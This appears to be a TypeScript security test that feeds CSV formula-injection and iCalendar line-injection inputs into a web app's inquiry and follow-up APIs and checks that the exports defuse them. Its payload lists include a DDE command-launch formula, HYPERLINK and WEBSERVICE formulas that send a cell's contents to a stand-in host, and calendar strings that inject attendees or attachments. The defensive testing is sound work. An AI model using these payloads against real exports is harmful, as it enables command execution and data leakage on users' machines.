import { Attacks } from '../support/attacks.ts';
import type { Copy, SentHeaders } from '../support/copy.ts';
import { proof } from '../proof.ts';

/** OWASP, CSV injection; with the full-width forms that spreadsheets take for the same. */
const LEADS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\u3000='];
const FORMULAS = [
  `cmd|' /C calc'!A0`,
  'HYPERLINK("https://elsewhere.example?x="&A1,"look")',
  '1+1',
  'SUM(1,2)',
  'WEBSERVICE("https://elsewhere.example/"&A1)',
];
const QUOTING = [
  ...['a","b', 'a\\"b', '"', '""', 'a,b', "a'b", '";=1+1;"', 'a"=1+1'],
  ...['x;=1+1;y', 'x;@SUM(1,2);y', 'x;＝1+1', '";=1+1', 'x|=1+1', 'x";"=1+1'],
];
/** A spreadsheet takes the list separator of its region for that of a CSV. */
const OTHER_SEPARATORS = [';', '|', '\t'];
const CALENDAR = [
  'Call\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:planted',
  'Call\r\nATTENDEE:mailto:evil@elsewhere.example',
  'Call\rATTACH:https://elsewhere.example/x',
  'a,b;c\\d:e',
  '\\nATTENDEE:x',
  'ش'.repeat(180),
  '🧵'.repeat(90),
];

/** What was taken. */
type Kept = [email: string, name: string];

proof({
  promise: 'Text: CSV defused; the calendar file escaped',
  figure: 'no cell begins like a formula, no text leaves its cell or its line',
  bites:
    'Without the apostrophe before what looks like a formula it prints “1203 attacks, 76 not repelled; first: the cell "-1+1@tiraz.example" … NOT HELD”.',
  async prove({ start, say }) {
    const attacks = new Attacks(say);
    const copy = await start();
    const headers = await copy.signIn();
    const selection = await copy.selection();
    const submit = (customerName: string, customerEmail: string) =>
      copy.api('/api/inquiries', { body: { ...selection, customerName, customerEmail } });
    const names = [...LEADS.flatMap((lead) => FORMULAS.map((formula) => lead + formula)), ...QUOTING];
    const kept: Kept[] = [];
    for (const [index, name] of names.entries()) {
      const { status } = await submit(name, `export-${index}@tiraz.example`);
      attacks.note(`the name ${JSON.stringify(name)} is not answered`, [201, 400].includes(status), status);
      if (status === 201) kept.push([`export-${index}@tiraz.example`, name.trim()]);
    }
    for (const lead of ['=', '+', '-']) {
      const email = `${lead}1+1@tiraz.example`;
      if ((await submit('By e-mail', email)).status === 201) kept.push([email, 'By e-mail']);
    }
    await tryCsv(copy, attacks, headers, kept);
    for (const text of CALENDAR) await tryCalendar(copy, attacks, headers, text);
    return attacks.result(`${kept.length} names and addresses in the CSV, ${CALENDAR.length} calendar files`);
  },
});

async function tryCsv(copy: Copy, attacks: Attacks, headers: SentHeaders, kept: Kept[]) {
  const answer = await fetch(`${copy.url}/api/admin/inquiries/export.csv`, { headers });
  const csv = Buffer.from(await answer.arrayBuffer()).toString();
  attacks.note(
    'a CSV that opens in the browser',
    /attachment/.test(answer.headers.get('content-disposition') ?? ''),
    [...answer.headers],
  );
  attacks.note('a CSV that is sniffed', answer.headers.get('x-content-type-options') === 'nosniff');
  attacks.note('a CSV that caches keep', answer.headers.get('cache-control') === 'no-store');
  const text = csv.replace(/^\ufeff/, '');
  for (const separator of OTHER_SEPARATORS)
    for (const cell of cellsOf(text, separator))
      attacks.note(
        `the cell ${JSON.stringify(cell)}, read with ${JSON.stringify(separator)},`,
        !looksLikeFormula(cell),
      );
  const rows = parseCsv(text);
  const width = rows[0]?.length;
  for (const row of rows) {
    attacks.note(`a row of ${row.length} cells`, row.length === width, row);
    for (const cell of row) attacks.note(`the cell ${JSON.stringify(cell)}`, !looksLikeFormula(cell), cell);
  }
  for (const [email, name] of kept) {
    const row = rows.find((each) => each[1]?.replace(/^'/, '') === email);
    attacks.note(`${email} lost its name`, row?.[0]?.replace(/^'/, '') === name, row);
  }
}

function looksLikeFormula(cell: string) {
  return /^[\s\u00a0]*[=+\-@＝＋－＠]|^[\t\r]/.test(cell);
}

/** As a spreadsheet reads it: what follows a closing quote belongs to the cell, and a quote further in is a letter. */
function cellsOf(text: string, separator: string) {
  const cells = new RegExp(
    `(?:"((?:[^"]|"")*)"([^${separator}\\r\\n]*)|([^${separator}\\r\\n]*))(?:[${separator}]|\\r\\n|$)`,
    'gy',
  );
  const found: string[] = [];
  while (cells.lastIndex < text.length) {
    const cell = cells.exec(text);
    if (!cell) throw new Error(`The CSV cannot be read with ${separator}.`);
    const [, quoted, rest = '', plain = ''] = cell;
    found.push(quoted === undefined ? plain : quoted.replaceAll('""', '"') + rest);
  }
  return found;
}

/** RFC 4180, strictly: a quote inside a cell without quotes is a fault. */
function parseCsv(text: string) {
  const rows: string[][] = [[]];
  const cells = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/gy;
  while (cells.lastIndex < text.length) {
    const found = cells.exec(text);
    if (!found) throw new Error('The CSV is not as RFC 4180 has it.');
    const [, cell = '', end] = found;
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

async function tryCalendar(copy: Copy, attacks: Attacks, headers: SentHeaders, text: string) {
  const [{ id: customerId }] = (await copy.api('/api/admin/customers?limit=1', { headers })).body;
  const body = {
    customerId,
    scheduledDate: '2026-12-01',
    subject: [...text].slice(0, 200).join(''),
    description: text,
  };
  const { body: followUp, status } = await copy.api('/api/admin/follow-ups', { headers, body });
  attacks.note(`the follow-up ${JSON.stringify(text)} is not answered`, [201, 400].includes(status), status);
  if (status !== 201) return;
  const answer = await fetch(`${copy.url}/api/admin/follow-ups/${followUp.id}/calendar.ics`, { headers });
  const calendar = await answer.text();
  attacks.note(
    'a calendar that opens in the browser',
    /attachment/.test(answer.headers.get('content-disposition') ?? ''),
  );
  const lines = calendar.split('\r\n');
  attacks.note(
    'a line that is too long',
    lines.every((line) => Buffer.byteLength(line) <= 75),
    lines,
  );
  const unfolded = calendar.replaceAll('\r\n ', '').split('\r\n');
  attacks.note(
    'a line break of another kind',
    unfolded.every((line) => !/[\r\n]/.test(line)),
    unfolded,
  );
  const names = unfolded.filter(Boolean).map((line) => line.split(/[:;]/)[0] ?? '');
  const known =
    /^(BEGIN|END|VERSION|PRODID|UID|SEQUENCE|DTSTAMP|DTSTART|DTEND|SUMMARY|DESCRIPTION|COMMENT|STATUS)$/;
  attacks.note(
    `${JSON.stringify(text)} begins a line of its own`,
    names.every((name) => known.test(name)),
    names,
  );
  attacks.note('an event too many', names.filter((name) => name === 'SUMMARY').length === 1, names);
  const read = unfolded.find((line) => line.startsWith('DESCRIPTION:'))?.slice('DESCRIPTION:'.length);
  const meant = read?.replace(/\\([\\;,nN])/g, (_, escaped) => (/n/i.test(escaped) ? '\n' : escaped));
  attacks.note('a text that changed', meant === text.replace(/\r\n|\r/g, '\n'), meant);
}
